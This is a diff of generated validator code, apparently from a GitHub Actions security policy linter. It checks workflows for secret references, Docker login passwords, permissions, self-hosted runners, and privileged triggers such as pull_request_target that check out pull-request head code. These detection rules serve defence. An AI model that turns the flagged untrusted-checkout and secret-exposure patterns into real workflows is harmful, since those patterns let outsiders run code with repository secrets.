   if (evaluated0.dynamicProps) {
     evaluated0.props = void 0;
   }
@@ -38254,7 +37899,7 @@ function validate96(data, { instancePath = "", parentData, parentDataProperty, r
     if (data.uses !== void 0) {
       let data0 = data.uses;
       if (typeof data0 === "string") {
-        if (!pattern64.test(data0)) {
+        if (!pattern60.test(data0)) {
           const err2 = { instancePath: instancePath + "/uses", schemaPath: "#/properties/uses/pattern", keyword: "pattern", params: { pattern: "^docker/build-push-action(@|$)" }, message: 'must match pattern "^docker/build-push-action(@|$)"' };
           if (vErrors === null) {
             vErrors = [err2];
@@ -38291,15 +37936,15 @@ function validate96(data, { instancePath = "", parentData, parentDataProperty, r
       }
     }
   }
-  validate96.errors = vErrors;
+  validate92.errors = vErrors;
   return errors === 0;
 }
-validate96.evaluated = { "props": { "uses": true, "with": true }, "dynamicProps": false, "dynamicItems": false };
-var v77 = validate97;
-function validate97(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+validate92.evaluated = { "props": { "uses": true, "with": true }, "dynamicProps": false, "dynamicItems": false };
+var v73 = validate93;
+function validate93(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
-  const evaluated0 = validate97.evaluated;
+  const evaluated0 = validate93.evaluated;
   if (evaluated0.dynamicProps) {
     evaluated0.props = void 0;
   }
@@ -38366,15 +38011,15 @@ function validate97(data, { instancePath = "", parentData, parentDataProperty, r
       }
     }
   }
-  validate97.errors = vErrors;
+  validate93.errors = vErrors;
   return errors === 0;
 }
-validate97.evaluated = { "props": { "with": true }, "dynamicProps": false, "dynamicItems": false };
-var v78 = validate98;
-function validate98(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+validate93.evaluated = { "props": { "with": true }, "dynamicProps": false, "dynamicItems": false };
+var v74 = validate94;
+function validate94(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
-  const evaluated0 = validate98.evaluated;
+  const evaluated0 = validate94.evaluated;
   if (evaluated0.dynamicProps) {
     evaluated0.props = void 0;
   }
@@ -38415,12 +38060,171 @@ function validate98(data, { instancePath = "", parentData, parentDataProperty, r
       }
     }
   }
+  validate94.errors = vErrors;
+  return errors === 0;
+}
+validate94.evaluated = { "props": { "permissions": true }, "dynamicProps": false, "dynamicItems": false };
+var v75 = validate95;
+var pattern61 = func0("^docker/login-action(@|$)", "u");
+function validate95(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+  let vErrors = null;
+  let errors = 0;
+  const evaluated0 = validate95.evaluated;
+  if (evaluated0.dynamicProps) {
+    evaluated0.props = void 0;
+  }
+  if (evaluated0.dynamicItems) {
+    evaluated0.items = void 0;
+  }
+  if (data && typeof data == "object" && !Array.isArray(data)) {
+    if (data.uses === void 0) {
+      const err0 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "uses" }, message: "must have required property 'uses'" };
+      if (vErrors === null) {
+        vErrors = [err0];
+      } else {
+        vErrors.push(err0);
+      }
+      errors++;
+    }
+    if (data.uses !== void 0) {
+      let data0 = data.uses;
+      if (typeof data0 === "string") {
+        if (!pattern61.test(data0)) {
+          const err1 = { instancePath: instancePath + "/uses", schemaPath: "#/properties/uses/pattern", keyword: "pattern", params: { pattern: "^docker/login-action(@|$)" }, message: 'must match pattern "^docker/login-action(@|$)"' };
+          if (vErrors === null) {
+            vErrors = [err1];
+          } else {
+            vErrors.push(err1);
+          }
+          errors++;
+        }
+      }
+    }
+  }
+  validate95.errors = vErrors;
+  return errors === 0;
+}
+validate95.evaluated = { "props": { "uses": true }, "dynamicProps": false, "dynamicItems": false };
+var v76 = validate96;
+var pattern62 = func0("^$|\\$\\{\\{", "u");
+function validate96(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+  let vErrors = null;
+  let errors = 0;
+  const evaluated0 = validate96.evaluated;
+  if (evaluated0.dynamicProps) {
+    evaluated0.props = void 0;
+  }
+  if (evaluated0.dynamicItems) {
+    evaluated0.items = void 0;
+  }
+  if (data && typeof data == "object" && !Array.isArray(data)) {
+    if (data.with !== void 0) {
+      let data0 = data.with;
+      if (data0 && typeof data0 == "object" && !Array.isArray(data0)) {
+        if (data0.password !== void 0) {
+          let data1 = data0.password;
+          if (typeof data1 === "string") {
+            if (!pattern62.test(data1)) {
+              const err0 = { instancePath: instancePath + "/with/password", schemaPath: "#/properties/with/properties/password/pattern", keyword: "pattern", params: { pattern: "^$|\\$\\{\\{" }, message: 'must match pattern "^$|\\$\\{\\{"' };
+              if (vErrors === null) {
+                vErrors = [err0];
+              } else {
+                vErrors.push(err0);
+              }
+              errors++;
+            }
+          }
+        }
+      }
+    }
+  }
+  validate96.errors = vErrors;
+  return errors === 0;
+}
+validate96.evaluated = { "props": { "with": true }, "dynamicProps": false, "dynamicItems": false };
+var v77 = validate97;
+var schema110 = { "not": { "properties": { "on": { "properties": { "events": { "const": ["workflow_call"] } } } } } };
+var func3 = require_equal().default;
+function validate97(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+  let vErrors = null;
+  let errors = 0;
+  const evaluated0 = validate97.evaluated;
+  if (evaluated0.dynamicProps) {
+    evaluated0.props = void 0;
+  }
+  if (evaluated0.dynamicItems) {
+    evaluated0.items = void 0;
+  }
+  const _errs0 = errors;
+  const _errs1 = errors;
+  if (data && typeof data == "object" && !Array.isArray(data)) {
+    if (data.on !== void 0) {
+      let data0 = data.on;
+      if (data0 && typeof data0 == "object" && !Array.isArray(data0)) {
+        if (data0.events !== void 0) {
+          if (!func3(data0.events, schema110.not.properties.on.properties.events.const)) {
+            const err0 = {};
+            if (vErrors === null) {
+              vErrors = [err0];
+            } else {
+              vErrors.push(err0);
+            }
+            errors++;
+          }
+        }
+      }
+    }
+  }
+  var valid0 = _errs1 === errors;
+  if (valid0) {
+    const err1 = { instancePath, schemaPath: "#/not", keyword: "not", params: {}, message: "must NOT be valid" };
+    if (vErrors === null) {
+      vErrors = [err1];
+    } else {
+      vErrors.push(err1);
+    }
+    errors++;
+  } else {
+    errors = _errs0;
+    if (vErrors !== null) {
+      if (_errs0) {
+        vErrors.length = _errs0;
+      } else {
+        vErrors = null;
+      }
+    }
+  }
+  validate97.errors = vErrors;
+  return errors === 0;
+}
+validate97.evaluated = { "dynamicProps": false, "dynamicItems": false };
+var v78 = validate98;
+function validate98(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+  let vErrors = null;
+  let errors = 0;
+  const evaluated0 = validate98.evaluated;
+  if (evaluated0.dynamicProps) {
+    evaluated0.props = void 0;
+  }
+  if (evaluated0.dynamicItems) {
+    evaluated0.items = void 0;
+  }
+  if (data && typeof data == "object" && !Array.isArray(data)) {
+    if (data.permissions === void 0) {
+      const err0 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "permissions" }, message: "must have required property 'permissions'" };
+      if (vErrors === null) {
+        vErrors = [err0];
+      } else {
+        vErrors.push(err0);
+      }
+      errors++;
+    }
+  }
   validate98.errors = vErrors;
   return errors === 0;
 }
-validate98.evaluated = { "props": { "permissions": true }, "dynamicProps": false, "dynamicItems": false };
+validate98.evaluated = { "dynamicProps": false, "dynamicItems": false };
 var v79 = validate99;
-var pattern65 = func0("^docker/login-action(@|$)", "u");
 function validate99(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -38444,8 +38248,8 @@ function validate99(data, { instancePath = "", parentData, parentDataProperty, r
     if (data.uses !== void 0) {
       let data0 = data.uses;
       if (typeof data0 === "string") {
-        if (!pattern65.test(data0)) {
-          const err1 = { instancePath: instancePath + "/uses", schemaPath: "#/properties/uses/pattern", keyword: "pattern", params: { pattern: "^docker/login-action(@|$)" }, message: 'must match pattern "^docker/login-action(@|$)"' };
+        if (!pattern60.test(data0)) {
+          const err1 = { instancePath: instancePath + "/uses", schemaPath: "#/properties/uses/pattern", keyword: "pattern", params: { pattern: "^docker/build-push-action(@|$)" }, message: 'must match pattern "^docker/build-push-action(@|$)"' };
           if (vErrors === null) {
             vErrors = [err1];
           } else {
@@ -38461,251 +38265,11 @@ function validate99(data, { instancePath = "", parentData, parentDataProperty, r
 }
 validate99.evaluated = { "props": { "uses": true }, "dynamicProps": false, "dynamicItems": false };
 var v80 = validate100;
-var pattern66 = func0("^$|\\$\\{\\{", "u");
+var pattern64 = func0("\\$\\{\\{\\s*(secrets\\.|github\\.token)", "u");
 function validate100(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
   const evaluated0 = validate100.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.with !== void 0) {
-      let data0 = data.with;
-      if (data0 && typeof data0 == "object" && !Array.isArray(data0)) {
-        if (data0.password !== void 0) {
-          let data1 = data0.password;
-          if (typeof data1 === "string") {
-            if (!pattern66.test(data1)) {
-              const err0 = { instancePath: instancePath + "/with/password", schemaPath: "#/properties/with/properties/password/pattern", keyword: "pattern", params: { pattern: "^$|\\$\\{\\{" }, message: 'must match pattern "^$|\\$\\{\\{"' };
-              if (vErrors === null) {
-                vErrors = [err0];
-              } else {
-                vErrors.push(err0);
-              }
-              errors++;
-            }
-          }
-        }
-      }
-    }
-  }
-  validate100.errors = vErrors;
-  return errors === 0;
-}
-validate100.evaluated = { "props": { "with": true }, "dynamicProps": false, "dynamicItems": false };
-var v81 = validate101;
-function validate101(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate101.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.inheritingJobs !== void 0) {
-      let data0 = data.inheritingJobs;
-      if (Array.isArray(data0)) {
-        if (data0.length < 1) {
-          const err0 = { instancePath: instancePath + "/inheritingJobs", schemaPath: "#/properties/inheritingJobs/minItems", keyword: "minItems", params: { limit: 1 }, message: "must NOT have fewer than 1 items" };
-          if (vErrors === null) {
-            vErrors = [err0];
-          } else {
-            vErrors.push(err0);
-          }
-          errors++;
-        }
-      }
-    }
-  }
-  validate101.errors = vErrors;
-  return errors === 0;
-}
-validate101.evaluated = { "props": { "inheritingJobs": true }, "dynamicProps": false, "dynamicItems": false };
-var v82 = validate102;
-function validate102(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate102.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.permissions === void 0) {
-      const err0 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "permissions" }, message: "must have required property 'permissions'" };
-      if (vErrors === null) {
-        vErrors = [err0];
-      } else {
-        vErrors.push(err0);
-      }
-      errors++;
-    }
-  }
-  validate102.errors = vErrors;
-  return errors === 0;
-}
-validate102.evaluated = { "dynamicProps": false, "dynamicItems": false };
-var v83 = validate103;
-function validate103(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate103.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.permissions === void 0) {
-      const err0 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "permissions" }, message: "must have required property 'permissions'" };
-      if (vErrors === null) {
-        vErrors = [err0];
-      } else {
-        vErrors.push(err0);
-      }
-      errors++;
-    }
-    if (data.permissions !== void 0) {
-      let data0 = data.permissions;
-      if (!(data0 && typeof data0 == "object" && !Array.isArray(data0))) {
-        const err1 = { instancePath: instancePath + "/permissions", schemaPath: "#/properties/permissions/type", keyword: "type", params: { type: "object" }, message: "must be object" };
-        if (vErrors === null) {
-          vErrors = [err1];
-        } else {
-          vErrors.push(err1);
-        }
-        errors++;
-      }
-    }
-    if (data.inheritingJobs !== void 0) {
-      let data1 = data.inheritingJobs;
-      if (Array.isArray(data1)) {
-        if (data1.length < 1) {
-          const err2 = { instancePath: instancePath + "/inheritingJobs", schemaPath: "#/properties/inheritingJobs/minItems", keyword: "minItems", params: { limit: 1 }, message: "must NOT have fewer than 1 items" };
-          if (vErrors === null) {
-            vErrors = [err2];
-          } else {
-            vErrors.push(err2);
-          }
-          errors++;
-        }
-      }
-    }
-  }
-  validate103.errors = vErrors;
-  return errors === 0;
-}
-validate103.evaluated = { "props": { "permissions": true, "inheritingJobs": true }, "dynamicProps": false, "dynamicItems": false };
-var v84 = validate104;
-function validate104(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate104.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.permissions !== void 0) {
-      let data0 = data.permissions;
-      if (data0 && typeof data0 == "object" && !Array.isArray(data0)) {
-        for (const key0 in data0) {
-          const _errs3 = errors;
-          const _errs4 = errors;
-          if ("write" !== data0[key0]) {
-            const err0 = {};
-            if (vErrors === null) {
-              vErrors = [err0];
-            } else {
-              vErrors.push(err0);
-            }
-            errors++;
-          }
-          var valid2 = _errs4 === errors;
-          if (valid2) {
-            const err1 = { instancePath: instancePath + "/permissions/" + key0.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/properties/permissions/additionalProperties/not", keyword: "not", params: {}, message: "must NOT be valid" };
-            if (vErrors === null) {
-              vErrors = [err1];
-            } else {
-              vErrors.push(err1);
-            }
-            errors++;
-          } else {
-            errors = _errs3;
-            if (vErrors !== null) {
-              if (_errs3) {
-                vErrors.length = _errs3;
-              } else {
-                vErrors = null;
-              }
-            }
-          }
-        }
-      }
-    }
-  }
-  validate104.errors = vErrors;
-  return errors === 0;
-}
-validate104.evaluated = { "props": { "permissions": true }, "dynamicProps": false, "dynamicItems": false };
-var v85 = validate105;
-function validate105(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate105.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.uses === void 0) {
-      const err0 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "uses" }, message: "must have required property 'uses'" };
-      if (vErrors === null) {
-        vErrors = [err0];
-      } else {
-        vErrors.push(err0);
-      }
-      errors++;
-    }
-    if (data.uses !== void 0) {
-      let data0 = data.uses;
-      if (typeof data0 === "string") {
-        if (!pattern64.test(data0)) {
-          const err1 = { instancePath: instancePath + "/uses", schemaPath: "#/properties/uses/pattern", keyword: "pattern", params: { pattern: "^docker/build-push-action(@|$)" }, message: 'must match pattern "^docker/build-push-action(@|$)"' };
-          if (vErrors === null) {
-            vErrors = [err1];
-          } else {
-            vErrors.push(err1);
-          }
-          errors++;
-        }
-      }
-    }
-  }
-  validate105.errors = vErrors;
-  return errors === 0;
-}
-validate105.evaluated = { "props": { "uses": true }, "dynamicProps": false, "dynamicItems": false };
-var v86 = validate106;
-var pattern68 = func0("\\$\\{\\{\\s*(secrets\\.|github\\.token)", "u");
-function validate106(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate106.evaluated;
   if (evaluated0.dynamicProps) {
     evaluated0.props = void 0;
   }
@@ -38721,7 +38285,7 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
           const _errs2 = errors;
           const _errs3 = errors;
           if (typeof data1 === "string") {
-            if (!pattern68.test(data1)) {
+            if (!pattern64.test(data1)) {
               const err0 = {};
               if (vErrors === null) {
                 vErrors = [err0];
@@ -38754,15 +38318,16 @@ function validate106(data, { instancePath = "", parentData, parentDataProperty, 
       }
     }
   }
-  validate106.errors = vErrors;
+  validate100.errors = vErrors;
   return errors === 0;
 }
-validate106.evaluated = { "props": { "with": true }, "dynamicProps": false, "dynamicItems": false };
-var v87 = validate107;
-function validate107(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+validate100.evaluated = { "props": { "with": true }, "dynamicProps": false, "dynamicItems": false };
+var v81 = validate101;
+var schema114 = { "required": ["prHeadCheckedOut", "triggers"], "properties": { "prHeadCheckedOut": { "const": true }, "triggers": { "contains": { "enum": ["pull_request_target", "workflow_run"] } } } };
+function validate101(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   let vErrors = null;
   let errors = 0;
-  const evaluated0 = validate107.evaluated;
+  const evaluated0 = validate101.evaluated;
   if (evaluated0.dynamicProps) {
     evaluated0.props = void 0;
   }
@@ -38770,87 +38335,8 @@ function validate107(data, { instancePath = "", parentData, parentDataProperty, 
     evaluated0.items = void 0;
   }
   if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.allSecrets !== void 0) {
-      const err0 = { instancePath: instancePath + "/allSecrets", schemaPath: "#/properties/allSecrets/false schema", keyword: "false schema", params: {}, message: "boolean schema is false" };
-      if (vErrors === null) {
-        vErrors = [err0];
-      } else {
-        vErrors.push(err0);
-      }
-      errors++;
-    }
-  }
-  validate107.errors = vErrors;
-  return errors === 0;
-}
-validate107.evaluated = { "props": { "allSecrets": true }, "dynamicProps": false, "dynamicItems": false };
-var v88 = validate108;
-function validate108(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate108.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.secretsInherit === void 0) {
-      const err0 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "secretsInherit" }, message: "must have required property 'secretsInherit'" };
-      if (vErrors === null) {
-        vErrors = [err0];
-      } else {
-        vErrors.push(err0);
-      }
-      errors++;
-    }
-  }
-  validate108.errors = vErrors;
-  return errors === 0;
-}
-validate108.evaluated = { "dynamicProps": false, "dynamicItems": false };
-var v89 = validate109;
-function validate109(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate109.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.callsImageBuilder !== void 0) {
-      const err0 = { instancePath: instancePath + "/callsImageBuilder", schemaPath: "#/properties/callsImageBuilder/false schema", keyword: "false schema", params: {}, message: "boolean schema is false" };
-      if (vErrors === null) {
-        vErrors = [err0];
-      } else {
-        vErrors.push(err0);
-      }
-      errors++;
-    }
-  }
-  validate109.errors = vErrors;
-  return errors === 0;
-}
-validate109.evaluated = { "props": { "callsImageBuilder": true }, "dynamicProps": false, "dynamicItems": false };
-var v90 = validate110;
-var schema123 = { "required": ["runsDocker", "triggers"], "properties": { "triggers": { "contains": { "enum": ["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment", "issue_comment", "merge_group"] } } } };
-function validate110(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate110.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.runsDocker === void 0) {
-      const err0 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "runsDocker" }, message: "must have required property 'runsDocker'" };
+    if (data.prHeadCheckedOut === void 0) {
+      const err0 = { instancePath, schemaPath: "#/required", keyword: "required", params: { missingProperty: "prHeadCheckedOut" }, message: "must have required property 'prHeadCheckedOut'" };
       if (vErrors === null) {
         vErrors = [err0];
       } else {
@@ -38867,652 +38353,48 @@ function validate110(data, { instancePath = "", parentData, parentDataProperty, 
       }
       errors++;
     }
-    if (data.triggers !== void 0) {
-      let data0 = data.triggers;
-      if (Array.isArray(data0)) {
-        const _errs1 = errors;
-        const len0 = data0.length;
-        for (let i0 = 0; i0 < len0; i0++) {
-          let data1 = data0[i0];
-          const _errs2 = errors;
-          if (!(data1 === "pull_request" || data1 === "pull_request_target" || data1 === "pull_request_review" || data1 === "pull_request_review_comment" || data1 === "issue_comment" || data1 === "merge_group")) {
-            const err2 = { instancePath: instancePath + "/triggers/" + i0, schemaPath: "#/properties/triggers/contains/enum", keyword: "enum", params: { allowedValues: schema123.properties.triggers.contains.enum }, message: "must be equal to one of the allowed values" };
-            if (vErrors === null) {
-              vErrors = [err2];
-            } else {
-              vErrors.push(err2);
-            }
-            errors++;
-          }
-          var valid1 = _errs2 === errors;
-          if (valid1) {
-            break;
-          }
-        }
-        if (!valid1) {
-          const err3 = { instancePath: instancePath + "/triggers", schemaPath: "#/properties/triggers/contains", keyword: "contains", params: { minContains: 1 }, message: "must contain at least 1 valid item(s)" };
-          if (vErrors === null) {
-            vErrors = [err3];
-          } else {
-            vErrors.push(err3);
-          }
-          errors++;
-        } else {
-          errors = _errs1;
-          if (vErrors !== null) {
-            if (_errs1) {
-              vErrors.length = _errs1;
-            } else {
-              vErrors = null;
-            }
-          }
-        }
-      }
-    }
-  }
-  validate110.errors = vErrors;
-  return errors === 0;
-}
-validate110.evaluated = { "props": { "triggers": true }, "dynamicProps": false, "dynamicItems": false };
-var v91 = validate111;
-function validate111(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
-  let vErrors = null;
-  let errors = 0;
-  const evaluated0 = validate111.evaluated;
-  if (evaluated0.dynamicProps) {
-    evaluated0.props = void 0;
-  }
-  if (evaluated0.dynamicItems) {
-    evaluated0.items = void 0;
-  }
-  if (data && typeof data == "object" && !Array.isArray(data)) {
-    if (data.runsOn !== void 0) {
-      let data0 = data.runsOn;
-      const _errs1 = errors;
-      const _errs2 = errors;
-      const _errs3 = errors;
-      let valid2 = false;
-      const _errs4 = errors;
-      if ("self-hosted" !== data0) {
-        const err0 = {};
+    if (data.prHeadCheckedOut !== void 0) {
+      if (true !== data.prHeadCheckedOut) {
+        const err2 = { instancePath: instancePath + "/prHeadCheckedOut", schemaPath: "#/properties/prHeadCheckedOut/const", keyword: "const", params: { allowedValue: true }, message: "must be equal to constant" };
         if (vErrors === null) {
-          vErrors = [err0];
+          vErrors = [err2];
         } else {
-          vErrors.push(err0);
+          vErrors.push(err2);
         }
         errors++;
-      }
-      var _valid0 = _errs4 === errors;
-      valid2 = valid2 || _valid0;
-      const _errs5 = errors;
-      if (errors === _errs5) {
-        if (Array.isArray(data0)) {
-          const _errs7 = errors;
-          const len0 = data0.length;
-          for (let i0 = 0; i0 < len0; i0++) {
-            const _errs8 = errors;
-            if ("self-hosted" !== data0[i0]) {
-              const err1 = {};
-              if (vErrors === null) {
-                vErrors = [err1];
-              } else {
-                vErrors.push(err1);
-              }
-              errors++;
-            }
-            var valid3 = _errs8 === errors;
-            if (valid3) {
-              break;
-            }
-          }
-          if (!valid3) {
-            const err2 = {};
-            if (vErrors === null) {
-              vErrors = [err2];
-            } else {
-              vErrors.push(err2);
-            }
-            errors++;
-          } else {
-            errors = _errs7;
-            if (vErrors !== null) {
-              if (_errs7) {
-                vErrors.length = _errs7;
-              } else {
-                vErrors = null;
-              }
-            }
-          }
-        } else {
-          const err3 = {};
-          if (vErrors === null) {
-            vErrors = [err3];
-          } else {
-            vErrors.push(err3);
-          }
-          errors++;
-        }
-      }
-      var _valid0 = _errs5 === errors;
-      valid2 = valid2 || _valid0;
-      const _errs9 = errors;
-      if (errors === _errs9) {
-        if (data0 && typeof data0 == "object" && !Array.isArray(data0)) {
-          let missing0;
-          if (data0.labels === void 0 && (missing0 = "labels")) {
-            const err4 = {};
-            if (vErrors === null) {
-              vErrors = [err4];
-            } else {
-              vErrors.push(err4);
-            }
-            errors++;
-          } else {
-            if (data0.labels !== void 0) {
-              let data2 = data0.labels;
-              const _errs12 = errors;
-              let valid5 = false;
-              const _errs13 = errors;
-              if ("self-hosted" !== data2) {
-                const err5 = {};
-                if (vErrors === null) {
-                  vErrors = [err5];
-                } else {
-                  vErrors.push(err5);
-                }
-                errors++;
-              }
-              var _valid1 = _errs13 === errors;
-              valid5 = valid5 || _valid1;
-              const _errs14 = errors;
-              if (errors === _errs14) {
-                if (Array.isArray(data2)) {
-                  const _errs16 = errors;
-                  const len1 = data2.length;
-                  for (let i1 = 0; i1 < len1; i1++) {
-                    const _errs17 = errors;
-                    if ("self-hosted" !== data2[i1]) {
-                      const err6 = {};
-                      if (vErrors === null) {
-                        vErrors = [err6];
-                      } else {
-                        vErrors.push(err6);
-                      }
-                      errors++;
-                    }
-                    var valid6 = _errs17 === errors;
-                    if (valid6) {
-                      break;
-                    }
-                  }
-                  if (!valid6) {
-                    const err7 = {};
-                    if (vErrors === null) {
-                      vErrors = [err7];
-                    } else {
-                      vErrors.push(err7);
-                    }
-                    errors++;
-                  } else {
-                    errors = _errs16;
-                    if (vErrors !== null) {
-                      if (_errs16) {
-                        vErrors.length = _errs16;
-                      } else {
-                        vErrors = null;
-                      }
-                    }
-                  }
-                } else {
-                  const err8 = {};
-                  if (vErrors === null) {
-                    vErrors = [err8];
-                  } else {
-                    vErrors.push(err8);
-                  }
-                  errors++;
-                }
-              }
-              var _valid1 = _errs14 === errors;
-              valid5 = valid5 || _valid1;
-              if (!valid5) {
-                const err9 = {};
-                if (vErrors === null) {
-                  vErrors = [err9];
-                } else {
-                  vErrors.push(err9);
-                }
-                errors++;
-              } else {
-                errors = _errs12;
-                if (vErrors !== null) {
-                  if (_errs12) {
-                    vErrors.length = _errs12;
-                  } else {
-                    vErrors = null;
-                  }
-                }
-              }
-            }
-          }
-        } else {
-          const err10 = {};
-          if (vErrors === null) {
-            vErrors = [err10];
-          } else {
-            vErrors.push(err10);
-          }
-          errors++;
-        }
-      }
-      var _valid0 = _errs9 === errors;
-      valid2 = valid2 || _valid0;
-      if (_valid0) {
-        var props0 = {};
-        props0.labels = true;
-      }
-      if (!valid2) {
-        const err11 = {};
-        if (vErrors === null) {
-          vErrors = [err11];
-        } else {
-          vErrors.push(err11);
-        }
-        errors++;
-      } else {
-        errors = _errs3;
-        if (vErrors !== null) {
-          if (_errs3) {
-            vErrors.length = _errs3;
-          } else {
-            vErrors = null;
-          }
-        }
-      }
-      var valid1 = _errs2 === errors;
-      if (valid1) {
-        const err12 = { instancePath: instancePath + "/runsOn", schemaPath: "#/properties/runsOn/not", keyword: "not", params: {}, message: "must NOT be valid" };
-        if (vErrors === null) {
-          vErrors = [err12];
-        } else {
-          vErrors.push(err12);
-        }
-        errors++;
-      } else {
-        errors = _errs1;
-        if (vErrors !== null) {
-          if (_errs1) {
-            vErrors.length = _errs1;
-          } else {
-            vErrors = null;
-          }
-        }
-      }
-    }
-  }
-  validate111.errors = vErrors;
-  return errors === 0;
-}
-validate111.evaluated = { "props": { "runsOn": true }, "dynamicProps": false, "dynamicItems": false };
-var v92 = validate112;
-var schema125 = { "required": ["checkedOutRefs", "triggers"], "properties": { "checkedOutRefs": { "contains": { "pattern": "(?:github\\.event\\.pull_request\\.head\\.(sha|ref|repo\\.full_name|repo\\.clone_url|label))|(?:github\\.event\\.pull_request\\.merge_commit_sha)|(?:github\\.head_ref)|(?:github\\.event\\.workflow_run\\.(head_sha|head_branch|head_repository\\.full_name|head_repository\\.clone_url|pull_requests))|(?:github\\.event\\.(check_suite|check_run\\.check_suite)\\.head_(sha|branch))|(?:refs/pull/)|(?:(^|[\\s:+/])pull/[^/\\s]+/(head|merge))|(?:steps\\.[\\w-]+\\.outputs\\.[\\w-]*(head|pr)[\\w-]*)" } }, "triggers": { "contains": { "enum": ["pull_request_target", "workflow_run", "issue_comment", "pull_request_review_comment", "discussion_comment", "issues"] } } } };
